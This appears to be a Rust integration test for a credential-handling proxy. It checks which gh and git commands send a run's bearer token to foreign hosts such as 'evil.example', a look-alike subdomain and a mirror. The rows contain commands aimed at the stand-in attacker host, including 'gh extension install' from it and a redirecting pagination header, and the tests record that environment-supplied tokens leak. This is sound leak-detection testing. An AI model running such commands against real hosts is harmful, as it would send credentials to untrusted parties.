//! Whom a stock gh asks besides the door, and who of them gets the run's bearer.

mod gaps;
mod redirects;

use gitdoor_proto::v1::Identity;
use gitdoor_tests::by_both_gh;
use gitdoor_tests::gh::{Credential, Gh, Version};
use gitdoor_tests::github::{Canned, Route};
use gitdoor_tests::recorder::Request;
use gitdoor_tests::world::{Run, Secret, World};
use serde_json::json;

use crate::PROGRAM;

by_both_gh![
    from_a_hosts_file_no_command_carries_the_bearer_to_another_host,
    from_the_environment_the_bearer_goes_to_every_host_but_githubs_own,
];

/// GitHub's own, which gh never sends an Enterprise host's credential to.
const GITHUB: &str = "api.github.com";
/// Somebody else, who asks for a credential.
const EVIL: &str = "evil.example";
/// Likewise, and it has repositories.
const MIRROR: &str = "mirror.example";

/// The program, its arguments, and the hosts that it asks besides the door.
type Row = (&'static str, &'static [&'static str], &'static [&'static str]);

/// Everything that could lead elsewhere.
const ROWS: &[Row] = &[
    ("gh", &["repo", "view", "acme/api"], &[]),
    ("gh", &["pr", "checkout", "42"], &[]),
    ("gh", &["run", "view", "77", "--log"], &[]),
    ("gh", &["run", "download", "77"], &[]),
    ("gh", &["release", "download", "v1.0.0"], &[]),
    ("gh", &["release", "download", "v1.0.0", "--archive=tar.gz"], &[]),
    ("gh", &["repo", "view", "github.com/acme/api"], &[GITHUB]),
    ("gh", &["pr", "view", "https://github.com/acme/api/pull/42"], &[GITHUB]),
    ("gh", &["pr", "list", "--repo=github.com/acme/api"], &[GITHUB]),
    ("gh", &["api", "https://api.github.com/repos/acme/api"], &[GITHUB]),
    ("gh", &["api", "repos/acme/api", "--hostname=github.com"], &[GITHUB]),
    ("gh", &["repo", "view", "https://evil.example/acme/api"], &[EVIL]),
    ("gh", &["pr", "view", "https://evil.example/acme/api/pull/42"], &[EVIL]),
    ("gh", &["pr", "list", "--repo=evil.example/acme/api"], &[EVIL]),
    ("gh", &["issue", "view", "3", "--repo=evil.example/acme/api"], &[EVIL]),
    ("gh", &["extension", "install", "https://evil.example/acme/gh-x"], &[EVIL]),
    ("gh", &["api", "https://evil.example/api/v3/x"], &[EVIL]),
    ("gh", &["api", "http://evil.example/x"], &[EVIL]),
    ("gh", &["api", "repos/acme/api", "--hostname=evil.example"], &[EVIL]),
    ("gh", &["api", "https://git.door.test.evil.example/x"], &["git.door.test.evil.example"]),
    ("gh", &["api", "https://sub.git.door.test/x"], &["sub.git.door.test"]),
    ("gh", &["api", "--paginate", "repos/acme/api/labels"], &[EVIL]),
    ("gh", &["repo", "clone", "https://mirror.example/acme/api", "mirror"], &[MIRROR]),
    ("git", &["ls-remote", "https://evil.example/acme/api"], &[EVIL]),
    ("git", &["ls-remote", "https://x-access-token@evil.example/acme/api"], &[EVIL]),
    ("git", &["ls-remote", "https://sub.git.door.test/acme/api"], &["sub.git.door.test"]),
    ("git", &["ls-remote", "https://git.door.test:8443/acme/api"], &["git.door.test:8443"]),
    ("git", &["ls-remote", "http://git.door.test/acme/api"], &["git.door.test"]),
];

async fn from_a_hosts_file_no_command_carries_the_bearer_to_another_host(version: Version) {
    let (world, run, gh) = furnished(&version, Credential::Hosts).await;
    for (row, requests) in asked(&world, &gh).await {
        let carriers = carriers(&run, &requests);
        assert!(carriers.is_empty(), "{row:?}: {carriers:?}");
    }
    let before = world.recorder().requests().len();
    gh.clone().env("GH_HOST", EVIL).run(&["repo", "view", "acme/api"]).await.code_is(1);
    gh.env("GH_REPO", "evil.example/acme/api").run(&["pr", "list"]).await.code_is(1);
    let requests = world.recorder().requests().split_off(before);
    assert_eq!(requests.iter().map(|request| request.host.as_str()).collect::<Vec<_>>(), [EVIL, EVIL]);
    assert!(carriers(&run, &requests).is_empty());
    world.finish().await;
}

async fn from_the_environment_the_bearer_goes_to_every_host_but_githubs_own(version: Version) {
    let (world, run, gh) = furnished(&version, Credential::Environment).await;
    for (row, requests) in asked(&world, &gh).await {
        let leaks = row.0 == "gh" && !row.2.contains(&GITHUB);
        let expected = if leaks { row.2 } else { &[] };
        assert_eq!(carriers(&run, &requests), expected, "{row:?}: {requests:?}");
        if let Some(last) = requests.last().filter(|last| last.target.starts_with("/acme/api.git/")) {
            // The git of `gh repo clone` asks this gh for any host's credential.
            assert_eq!(carriers(&run, std::slice::from_ref(last)), [MIRROR]);
        }
    }
    world.finish().await;
}

/// A furnished `acme/api`, hosts that ask for a credential, and a gh in a clone.
async fn furnished(version: &Version, credential: Credential) -> (World, Run, Gh) {
    let world = World::start(PROGRAM).await;
    world.github.seed("acme/api").furnished().create();
    for host in [EVIL, MIRROR, "sub.git.door.test", "git.door.test:8443", "git.door.test"] {
        let challenge = Canned::status(401).header("WWW-Authenticate", "Basic realm=\"x\"");
        world.recorder().answer(host, challenge.message("log in"));
    }
    let repository = json!({ "id": "R_1", "name": "api", "owner": { "login": "acme" }, "hasWikiEnabled": false });
    let answer = json!({ "data": { "repository": repository } }).to_string();
    world.recorder().answer_under(MIRROR, "/api/graphql", Canned::status(200).body("application/json", answer));
    let labels = Canned::status(200).header("Link", "<https://evil.example/labels?page=2>; rel=\"next\"");
    world.github.when(Route::Rest).path("/repos/acme/api/labels").answer(labels.body("application/json", "[]"));
    let run = world.register(Identity::Write).await;
    let gh = world.gh_with(&run, version, credential);
    gh.git(&["clone", "--quiet", &gh.url("acme/api")]).await.ok();
    (world, run, gh.at("api"))
}

/// Runs every row, and asserts that it asks whom it says: each with what it asked past the door.
async fn asked(world: &World, gh: &Gh) -> Vec<(&'static Row, Vec<Request>)> {
    let mut all = Vec::new();
    for row in ROWS {
        let (program, arguments, hosts) = row;
        let before = world.recorder().requests().len();
        let said = if *program == "git" { gh.git(arguments).await } else { gh.run(arguments).await };
        assert_eq!(said.code == Some(0), hosts.is_empty(), "{said}");
        let requests = world.recorder().requests().split_off(before);
        let mut seen: Vec<&str> = requests.iter().map(|request| request.host.as_str()).collect();
        seen.dedup();
        assert_eq!(seen, *hosts, "{said}");
        all.push((row, requests));
    }
    all
}

/// The hosts that a request brought the bearer to, in any spelling: in its target, a header or its body.
fn carriers(run: &Run, requests: &[Request]) -> Vec<String> {
    let secret = Secret::new("bearer", run.bearer.rsplit('.').next().unwrap());
    let carries = |request: &&Request| {
        secret.is_in(&format!("{request:?}")) || secret.is_in(&String::from_utf8_lossy(&request.body))
    };
    let mut hosts: Vec<String> = requests.iter().filter(carries).map(|request| request.host.clone()).collect();
    hosts.dedup();
    hosts
}
